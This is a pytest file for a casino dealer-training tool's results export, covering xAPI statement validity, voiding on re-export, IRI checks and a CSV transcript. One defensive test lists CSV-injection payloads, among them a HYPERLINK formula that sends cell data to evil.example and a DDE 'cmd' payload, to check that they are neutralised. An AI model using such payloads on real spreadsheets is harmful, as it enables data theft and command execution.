"""Hand-off to the employer: a progress file's attempts as xAPI statements,
checked against the xAPI 1.0.3 data model, and as a CSV transcript that a spreadsheet shows as
written (quoted, and no cell run as a formula); and `dealer-trainer export-results`."""

from __future__ import annotations

import copy
import csv
import io
import json
import uuid
from dataclasses import replace
from datetime import UTC, datetime
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest

from tests.support.class_server import T0, attempt
from tests.support.command import run_command, run_here
from tests.support.xapi import problems
from trainer.progress.handoff import (
    CATEGORIES,
    EXAMS_NOTE,
    IRI,
    PLACEHOLDER_NOTE,
    TRANSCRIPT_COLUMNS,
    activity_base,
    file_lines,
    iso_duration,
    practice,
    scaled,
    statements,
    transcript_rows,
    write,
)
from trainer.progress.records import Mode
from trainer.progress.store import Store

CITED = ({"kind": "wrong amount", "severity": "major", "message": "Paid $4", "cite": "§ 577.6",
          "skill": "payouts", "expected": "$5", "actual": None},
         {"kind": "wrong call", "severity": "critical", "message": "No call", "cite": "§ 668a.3(i)",
          "skill": "calls", "expected": None, "actual": None},
         {"kind": "wrong amount", "severity": "minor", "message": "Paid $9", "cite": "§ 577.6",
          "skill": "payouts", "expected": "$10", "actual": None})


@pytest.fixture
def progress(tmp_path):
    """A progress file with a passed, a failed (three findings, two sections), an abandoned, a Pai
    Gow and a drill attempt, of two trainees, and an exam attempt (which no export writes: an
    exam reaches the employer as its certificate, tests/test_handoff_certificates.py)."""
    path = tmp_path / "ws.db"
    with Store.open(path) as store:
        ana, bo = store.add_trainee("Ana"), store.add_trainee("Bo")
        store.record_attempt(attempt(ana, 1))  # passed
        store.record_attempt(attempt(ana, 2, findings=CITED, total=55, passed=False, critical=True,
                                     duration=65.25))
        store.record_attempt(attempt(bo, 4, abandoned=True, passed=False, total=0))
        store.record_attempt(attempt(bo, 5, item_id="pgd-sum-c-pair", game="pai-gow-dice"))
        store.record_attempt(attempt(bo, 6, mode=Mode.EXAM, item_id="ph-first-shake", total=100))
        store.record_attempt(attempt(bo, 7, mode=Mode.PRACTICE, item_id="drill:high-roll-dice:3",
                                     game="high-roll-dice", total=100))
    return path


def lines_of(path, trainee=None):
    with Store.open(path) as store:
        return file_lines(store, trainee)


# --------------------------------------------------------------------------- xAPI
def test_every_statement_is_an_xapi_statement(progress):
    found = statements(lines_of(progress))
    assert len(found) == 5
    for s in found:
        assert problems(s) == [], s


@pytest.mark.parametrize(("change", "why"), [
    (lambda s: s["result"]["score"].update(scaled=1.5), "1.5 is greater than the maximum of 1"),
    (lambda s: s["result"]["score"].update(scaled=-1.01), "less than the minimum of -1"),
    (lambda s: s["result"]["score"].update(raw=101), "raw 101 is outside [0, 100]"),
    (lambda s: s["result"]["score"].update(min=100), "min 100 is not below max 100"),
    (lambda s: s.update(id="not-a-uuid"), "does not match"),
    (lambda s: s.update(timestamp="2023-11-14T22:13:50"), "does not match"),  # no time zone
    (lambda s: s.update(timestamp="2023-13-14T22:13:50Z"), "is not a 'date-time'"),
    (lambda s: s["object"].update(id="props and hops"), "does not match"),
    (lambda s: s.update(object={"objectType": "StatementRef", "id": "an attempt"}), "does not match"),
    (lambda s: s["verb"].update(id="passed"), "does not match"),
    (lambda s: s["result"].update(duration="30 seconds"), "does not match"),
    (lambda s: s["result"].update(duration="P"), "does not match"),
    (lambda s: s["actor"]["account"].pop("homePage"), "'homePage' is a required property"),
    (lambda s: s["actor"].update(mbox="mailto:ana@example.com"), "is valid under each of"),
    (lambda s: s["actor"].pop("account"), "is not valid under any of the given schemas"),
    (lambda s: s.pop("verb"), "'verb' is a required property"),
    (lambda s: s["context"]["extensions"].update(sections=[]), "does not match"),  # a key not an IRI
    (lambda s: s["result"].update(success="yes"), "is not of type 'boolean'"),
])
def test_the_checker_refuses_what_xapi_does_not_allow(progress, change, why):
    """The check can fail: each statement is made wrong in one way, and refused for it."""
    good = statements(lines_of(progress))[0]
    bad = copy.deepcopy(good)
    change(bad)
    found = problems(bad)
    assert found and any(why in p for p in found), found


def test_statement_ids_come_from_the_attempts_and_what_they_say_so_exporting_again_adds_nothing(progress):
    lines = lines_of(progress)
    first, again = statements(lines), statements(lines_of(progress))
    assert [s["id"] for s in first] == [s["id"] for s in again]
    assert len({s["id"] for s in first}) == len(first)
    assert {uuid.UUID(s["id"]).version for s in first} == {5}
    # another base, or another home page, says something else: an id of its own for every
    # statement (an LRS answers a known id with other content 409 Conflict, refusing the batch)
    for other in (statements(lines, activity_base=BASE), statements(lines, home_page="https://school.example/")):
        assert not {s["id"] for s in other} & {s["id"] for s in first}


def test_verbs_results_and_scores(progress):
    by_item = {(s["actor"]["name"], s["object"]["id"].rsplit("/", 1)[-1]): s for s in
               statements(lines_of(progress))}
    passed, failed = by_item["Ana", "01"], by_item["Ana", "02"]
    assert passed["verb"]["id"] == "http://adlnet.gov/expapi/verbs/passed"
    assert passed["result"]["success"] is True and passed["result"]["completion"] is True
    assert passed["result"]["score"] == {"scaled": 0.97, "raw": 97, "min": 0, "max": 100}
    assert failed["verb"]["id"] == "http://adlnet.gov/expapi/verbs/failed"
    assert failed["result"]["success"] is False
    assert failed["result"]["score"]["scaled"] == 0.55 and failed["result"]["duration"] == "PT1M5.25S"
    abandoned = by_item["Bo", "04"]
    assert abandoned["verb"]["id"] == "http://adlnet.gov/expapi/verbs/terminated"
    assert abandoned["result"]["completion"] is False
    assert "score" not in abandoned["result"] and "success" not in abandoned["result"]
    pai_gow = by_item["Bo", "pgd-sum-c-pair"]
    assert pai_gow["object"]["definition"]["type"] == "http://adlnet.gov/expapi/activities/simulation"
    assert pai_gow["object"]["definition"]["name"] == {"en-US": "Sum paytable C: a pair at even money"}
    assert pai_gow["context"]["contextActivities"]["parent"][0]["definition"]["name"] == {
        "en-US": "Pai Gow Poker dice wagers"}
    assert ("Bo", "ph-first-shake") not in by_item  # the exam attempt
    assert all(s["context"]["contextActivities"]["category"] == [CATEGORIES["practice"]]
               for s in by_item.values())
    drill = by_item["Bo", "drill:high-roll-dice:3"]
    assert drill["object"]["definition"]["name"] == {"en-US": "High Roll Dice practice, difficulty 3"}
    assert drill["object"]["id"].endswith("/games/high-roll-dice/items/drill:high-roll-dice:3")


def test_the_actor_is_the_trainees_account_and_context_names_the_sections_cited(progress):
    lines, _ = practice(lines_of(progress))
    found = statements(lines, home_page="https://school.example/")
    for line, s in zip(lines, found, strict=True):
        assert s["actor"]["account"] == {"homePage": "https://school.example/", "name": line.trainee.uid}
        assert s["actor"]["name"] == line.trainee.name
    failed = next(s for s, line in zip(found, lines, strict=True) if line.attempt.findings)
    extensions = failed["context"]["extensions"]
    sections = next(v for k, v in extensions.items() if k.endswith("/regulation-sections"))
    assert sections == ["§ 577.6", "§ 668a.3(i)"]  # each once, in the findings' order


def test_times_are_iso_8601_in_utc():
    assert iso_duration(0) == "PT0S"
    assert iso_duration(30) == "PT30S"
    assert iso_duration(65.25) == "PT1M5.25S"
    assert iso_duration(3600) == "PT1H"
    assert iso_duration(3725.5) == "PT1H2M5.50S"
    assert iso_duration(59.999) == "PT1M"  # to the hundredth, carried


def test_scaled_scores_are_exact_hundredths():
    for total in range(101):
        assert Decimal(json.dumps(scaled(total))) == Decimal(total) / 100


def test_one_trainees_statements(progress):
    found = statements(lines_of(progress, "bo"))
    assert {s["actor"]["name"] for s in found} == {"Bo"} and len(found) == 3


BASE = "https://lms.example-casino.com/dealer-trainer/"


def activity_ids(statement: dict) -> list[str]:
    parents = statement["context"]["contextActivities"]["parent"]
    return [statement["object"]["id"], *(a["id"] for a in parents)]


def test_a_re_export_under_another_base_voids_what_it_replaces(progress, tmp_path):
    """xAPI 1.0.3 (part two, 2.3.2): a statement is never changed; one sent with the placeholder
    base is voided, and its replacement sent with an id of its own."""
    old, new = tmp_path / "old.json", tmp_path / "new.json"
    assert run_here("export-results", str(progress), "--format", "xapi", "--out", str(old)).returncode == 0
    done = run_here("export-results", str(progress), "--format", "xapi", "--out", str(new),
                    "--activity-base", BASE, "--replaces-base", IRI)
    assert done.returncode == 0, done.stderr
    assert "5 attempts as xAPI statements, after 5 voiding the statements they replace" in done.stdout
    sent, found = json.loads(old.read_text(encoding="utf-8")), json.loads(new.read_text(encoding="utf-8"))
    voids, replacements = found[:5], found[5:]
    assert all(problems(s) == [] for s in found)
    assert [v["verb"]["id"] for v in voids] == ["http://adlnet.gov/expapi/verbs/voided"] * 5
    assert [v["object"] for v in voids] == [{"objectType": "StatementRef", "id": s["id"]} for s in sent]
    assert [s["object"]["id"] for s in replacements] == [s["object"]["id"].replace(IRI, BASE) for s in sent]
    assert not {s["id"] for s in replacements} & {s["id"] for s in sent}
    again = run_here("export-results", str(progress), "--format", "xapi", "--activity-base", BASE,
                     "--replaces-base", IRI)
    assert json.loads(again.stdout) == found, "the same export again: the same statements, voids too"
    same = run_here("export-results", str(progress), "--format", "xapi", "--activity-base", BASE,
                    "--replaces-base", BASE)
    verbs = [s["verb"]["id"] for s in json.loads(same.stdout)]
    assert "http://adlnet.gov/expapi/verbs/voided" not in verbs, "nothing replaced: nothing voided"
    csv_too = run_here("export-results", str(progress), "--format", "csv", "--replaces-base", IRI)
    assert csv_too.returncode == 2 and "--format xapi" in csv_too.stderr and csv_too.stdout == ""


def test_every_activity_is_named_under_the_schools_base(progress):
    lines = lines_of(progress)
    placeholder, found = statements(lines), statements(lines, activity_base=BASE)
    for s in found:
        assert problems(s) == [], s
        assert all(i.startswith(BASE + "games/") for i in activity_ids(s)), activity_ids(s)
        assert "dealer-trainer.invalid" not in json.dumps(s["object"])
    assert [activity_ids(s) for s in found] == [[i.replace(IRI, BASE) for i in activity_ids(s)]
                                                for s in placeholder]
    assert not {s["id"] for s in found} & {s["id"] for s in placeholder}, "another base: other ids"
    assert found[0]["object"]["id"] == BASE + "games/props-and-hops/items/props-and-hops/01"


@pytest.mark.parametrize(("text", "base"), [
    (BASE, BASE),
    ("https://lms.example-casino.com/dealer-trainer", BASE),  # the / added
    ("https://lms.example-casino.com", "https://lms.example-casino.com/"),
    ("https://lms.例え.jp/研修/", "https://lms.例え.jp/研修/"),  # an IRI, not only a URI
    ("urn:example-casino:dealer-trainer:", "urn:example-casino:dealer-trainer:"),
])
def test_an_activity_base_is_an_absolute_iri(text, base):
    assert activity_base(text) == base


@pytest.mark.parametrize(("text", "says"), [
    ("lms.example-casino.com/dealer-trainer/", "is not an absolute IRI: give a scheme and a server"),
    ("/dealer-trainer/", "is not an absolute IRI"),
    ("", "is not an IRI"),
    ("https://lms.example-casino.com/dealer trainer/", "is not an IRI"),
    ("https://lms.example-casino.com/<dt>/", "is not an IRI"),
    ("https:///dealer-trainer/", "names no server"),
    ("https://lms.example-casino.com/dt/?id=", "has a query or fragment"),
    ("https://lms.example-casino.com/dt/#", "has a query or fragment"),
    ("https://lms.example-casino.com:port/dt/", "is not an absolute IRI (Port could not be cast"),
    ("https://lms.example-casino.com/100%/", "has a % that is not followed by two hex digits"),
    ("C:\\school\\dt", "is not an IRI"),
    ("C:/school/dt", "is a file's path, not an IRI"),
])
def test_what_is_not_an_activity_base_is_refused_saying_why(text, says):
    with pytest.raises(ValueError, match=r"^the activity base ") as e:
        activity_base(text)
    assert says in str(e.value) and "\n" not in str(e.value)


# --------------------------------------------------------------------------- CSV transcript
def iso_z(t: float) -> str:
    return datetime.fromtimestamp(t, UTC).strftime("%Y-%m-%dT%H:%M:%S.000Z")


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_the_transcript_has_a_header_and_a_row_per_attempt(progress):
    out = io.StringIO(newline="")
    assert write(lines_of(progress), out, "csv") == 5
    rows = read_csv(out.getvalue())
    assert rows[0] == list(TRANSCRIPT_COLUMNS)
    by = {(r[0], r[TRANSCRIPT_COLUMNS.index("Attempt id")]): dict(zip(rows[0], r, strict=True))
          for r in rows[1:]}
    failed = next(r for r in by.values() if r["Result"] == "failed")
    assert failed == {**failed, "Trainee": "Ana", "Game": "Props & Hops", "Mode": "Scenario",
                      "Score": "55", "Duration (s)": "65.25", "Findings": "3",
                      "Sections cited": "§ 577.6; § 668a.3(i)"}
    abandoned = next(r for r in by.values() if r["Result"] == "abandoned")
    assert abandoned["Score"] == ""
    drill = next(r for r in by.values() if r["Game"] == "High Roll Dice")
    assert drill["Scenario or drill"] == "High Roll Dice practice, difficulty 3"
    assert drill["Mode"] == "Practice round"
    assert {r["Mode"] for r in by.values()} == {"Scenario", "Practice round"}  # no exam row


@pytest.fixture
def new_york(monkeypatch):
    """The exporting machine's clock in New York (UTC-5 in winter, UTC-4 in summer)."""
    import time

    monkeypatch.setenv("TZ", "America/New_York")
    time.tzset()
    yield ZoneInfo("America/New_York")
    monkeypatch.undo()
    time.tzset()


def test_the_transcript_reads_in_a_spreadsheet_as_dates_ids_and_certification(progress, tmp_path, new_york):
    """For Excel on a school's PC: a byte order mark (else "§" reads "Â§"), the local date and time
    a spreadsheet takes for a date, the offset apart, the trainee's id, the workstation, and
    whether a row is certified."""
    out = tmp_path / "transcript.csv"  # the command's entry here, in New York (new_york)
    done = run_here("export-results", str(progress), "--format", "csv", "--out", str(out))
    assert done.returncode == 0, done.stderr
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf\"Trainee\",") and raw.count(b"\xef\xbb\xbf") == 1
    rows = read_csv(raw.decode("utf-8-sig"))
    assert rows[0] == list(TRANSCRIPT_COLUMNS)
    by = [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]
    failed = next(r for r in by if r["Result"] == "failed")
    when = datetime.fromtimestamp(T0 + 120, new_york)
    assert failed["Date and time"] == when.strftime("%Y-%m-%d %H:%M:%S")
    hours = when.utcoffset().total_seconds() // 3600
    assert failed["UTC offset"] == {-5: "UTC-05:00", -4: "UTC-04:00"}[hours]
    with Store.open(progress) as store:
        ana = store.find_trainee("Ana")
        source = store.attempts(ana.id)[0].source
    assert failed["Trainee id"] == ana.uid and ana.uid
    assert failed["Workstation (as it named itself)"] == source and source
    assert {r["Certification"] for r in by} == {"Practice, not certified"}
    assert "§ 577.6" in raw.decode("utf-8-sig")
    assert out.stat().st_mode & 0o777 == 0o600, "trainees' results are the owner's to read"
    piped = run_command("export-results", str(progress), "--format", "csv")  # the program: a pipe
    assert not piped.stdout.startswith("\ufeff"), "a pipe to a script gets no byte order mark"


def test_names_with_commas_quotes_and_new_lines_come_back_as_written(progress):
    line = lines_of(progress)[0]
    name = 'Ana "the Hand" Ruiz, Jr.\nsecond line; and, more'
    odd = line._replace(trainee=replace(line.trainee, name=name),
                        attempt=replace(line.attempt, findings=({**CITED[0], "cite": 'x", "y\r\nz'},)))
    out = io.StringIO(newline="")
    write([odd], out, "csv")
    text = out.getvalue()
    rows = read_csv(text)
    cited = TRANSCRIPT_COLUMNS.index("Sections cited")
    assert len(rows) == 2 and rows[1][0] == name and rows[1][cited] == 'x", "y\r\nz'
    assert text.startswith('"Trainee",')  # every cell quoted


@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0",
                                  "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"])
def test_a_formula_is_written_as_text(progress, name):
    """OWASP, CSV injection: a cell a spreadsheet would run is prefixed with a single quote."""
    line = lines_of(progress)[0]
    odd = line._replace(trainee=replace(line.trainee, name=name))
    row = list(transcript_rows([odd]))[1]
    assert row[0] == "'" + name
    out = io.StringIO(newline="")
    write([odd], out, "csv")
    assert read_csv(out.getvalue())[1][0] == "'" + name
    assert all(not c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in row)


def test_ordinary_text_is_not_prefixed(progress):
    row = list(transcript_rows(lines_of(progress)[:1]))[1]
    assert row[0] == "Ana" and not any(c.startswith("'") for c in row)


# --------------------------------------------------------------------------- the command
def test_export_results_writes_xapi_and_csv(progress, tmp_path):
    out = tmp_path / "statements.json"
    done = run_command("export-results", str(progress), "--format", "xapi", "--out", str(out),
                       "--home-page", "https://school.example/", "--activity-base", BASE)
    assert done.returncode == 0, done.stderr
    assert "5 attempts as xAPI statements" in done.stdout
    assert done.stderr == f"note: {EXAMS_NOTE.format(n=1, s='')}\n"
    found = json.loads(out.read_text(encoding="utf-8"))
    assert len(found) == 5 and all(problems(s) == [] for s in found)
    assert found == statements(lines_of(progress), home_page="https://school.example/", activity_base=BASE)
    assert not list(tmp_path.glob("*.part"))
    done = run_here("export-results", str(progress), "--format", "csv", "--trainee", "Ana")
    assert done.returncode == 0, done.stderr
    assert done.stderr == "", "a transcript names no activities; Ana sat no exam"
    rows = read_csv(done.stdout)
    assert rows[0] == list(TRANSCRIPT_COLUMNS) and {r[0] for r in rows[1:]} == {"Ana"} and len(rows) == 3


@pytest.mark.parametrize("out", [False, True])
def test_without_an_activity_base_the_placeholders_are_said_once(progress, tmp_path, out):
    path = tmp_path / "statements.json"
    done = run_here("export-results", str(progress), "--format", "xapi",
                    *(["--out", str(path)] if out else []))
    assert done.returncode == 0, done.stderr
    assert done.stderr.splitlines() == [f"note: {EXAMS_NOTE.format(n=1, s='')}", PLACEHOLDER_NOTE]
    assert "--activity-base IRI" in PLACEHOLDER_NOTE and IRI in PLACEHOLDER_NOTE
    found = json.loads(path.read_text(encoding="utf-8") if out else done.stdout)
    assert found == statements(lines_of(progress)) and all(problems(s) == [] for s in found)


BAD_INPUT = [
    (["{missing}", "--format", "csv"], "no such progress file"),
    (["{db}", "--format", "csv", "--trainee", "Zed"], "no trainee is named 'Zed'"),
    (["{db}", "--format", "pdf"], "invalid choice: 'pdf'"),
    (["--format", "csv"], "give a progress FILE or --class URL"),
    (["{db}", "--format", "csv", "--out", "{tmp}/no/such/folder/t.csv"], "cannot be written"),
    (["{notdb}", "--format", "xapi"], "is damaged"),
    (["{db}", "--format", "xapi", "--home-page", "school"], "is not a web address"),
    (["{db}", "--format", "xapi", "--activity-base", "lms.example-casino.com/dt/"], "is not an absolute IRI"),
    (["{db}", "--format", "xapi", "--activity-base", "https://lms/dealer trainer/"], "is not an IRI"),
    (["{db}", "--format", "xapi", "--activity-base", "https://lms/dt?x=1"], "has a query or fragment"),
    (["{db}", "--format", "xapi", "--activity-base", ""], "is not an IRI"),
    (["{db}", "--format", "xapi", "--out", "{tmp}/no/such/folder/s.json"], "cannot be written"),
    (["--class", "http://nowhere", "--format", "csv"], "--class"),
]
#: what the program itself is run on (the rest through the command's entry in this process, which
#: the program calls): a file, an argument and a web address refused
AS_A_PROGRAM = [0, 2, 6]


@pytest.mark.parametrize(("args", "says"), BAD_INPUT)
def test_bad_input_is_one_line_and_exit_2(progress, tmp_path, args, says):
    refused_in_one_line(run_here, progress, tmp_path, args, says)


@pytest.mark.parametrize(("args", "says"), [BAD_INPUT[k] for k in AS_A_PROGRAM])
def test_the_program_refuses_bad_input_in_one_line(progress, tmp_path, args, says):
    refused_in_one_line(run_command, progress, tmp_path, args, says)


def refused_in_one_line(run, progress, tmp_path, args, says) -> None:
    notdb = tmp_path / "notes.txt"
    notdb.write_text("not a database\n")
    out = tmp_path / "kept.csv"
    out.write_text("what was there\n")
    fill = {"missing": tmp_path / "none.db", "db": progress, "tmp": tmp_path, "notdb": notdb}
    done = run("export-results", *[a.format(**fill) for a in args], "--out", str(out)) \
        if "--out" not in args else run("export-results", *[a.format(**fill) for a in args])
    assert done.returncode == 2, done.stdout
    assert says in done.stderr
    assert "Traceback" not in done.stderr and len(done.stderr.strip().splitlines()) == 1
    assert out.read_text() == "what was there\n"  # nothing written over it
    assert not list(tmp_path.rglob("*.part"))
